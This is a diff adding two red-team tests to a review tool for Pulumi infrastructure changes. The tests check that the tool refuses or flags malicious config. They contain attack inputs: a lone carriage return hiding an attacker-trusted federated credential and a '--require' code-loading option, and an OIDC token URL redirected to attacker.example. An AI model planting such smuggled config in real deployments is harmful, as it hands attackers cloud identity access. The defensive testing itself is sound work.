@@ -212,6 +212,47 @@ describe("a pull request that changes what pulumi up deploys through data", () =
     ]);
   });
 
+  it("is refused when a lone carriage return would hide a line from review but not from Pulumi (red team)", async () => {
+    const hidden = `    # rotation reviewed\r    federatedCredentials: {ci: {github: {repository: attacker/pwn, branch: main}}}\n`;
+    const stack = pr((d) =>
+      fs.appendFileSync(path.join(d, "Pulumi.prod.yaml"), `  defaults:\n${hidden}`),
+    );
+    const refused = await review(stack);
+    expect(refused.code).toBe(EXIT.invalid);
+    expect(refused.stderr).toContain(
+      "holds a carriage return not followed by a line feed, which Pulumi's YAML reader takes for a line break",
+    );
+    const project = pr((d) =>
+      write(
+        d,
+        "Pulumi.yaml",
+        PROJECT_YAML.replace(
+          "runtime: nodejs",
+          "runtime: nodejs # x\r  options: {nodeargs: --require ./certs/ca.pem}",
+        ),
+      ),
+    );
+    expect((await review(project)).code).not.toBe(EXIT.ok);
+  });
+
+  it("is reported when provider config outside entra-graph-apps changes where pulumi up signs in (red team)", async () => {
+    const dir = pr((d) =>
+      fs.appendFileSync(
+        path.join(d, "Pulumi.prod.yaml"),
+        "  azuread:oidcRequestUrl: https://attacker.example/token\n  azuread:clientSecret: {secure: v1:abc}\n",
+      ),
+    );
+    const { code, stdout } = await review(dir);
+    expect(code).toBe(EXIT.privilegeGained);
+    expect(stdout).toContain(
+      [
+        "Config outside entra-graph-apps (provider config decides where and as whom pulumi up signs in: needs a human review)",
+        "  ! azuread:clientSecret added = [secret]",
+        '  ! azuread:oidcRequestUrl added = "https://attacker.example/token"',
+      ].join("\n"),
+    );
+  });
+
   it("is refused when a Pulumi.json would be read before Pulumi.yaml", async () => {
     const dir = pr((d) =>
       write(d, "Pulumi.json", JSON.stringify({ name: "entra-graph-apps", runtime: "nodejs" })),
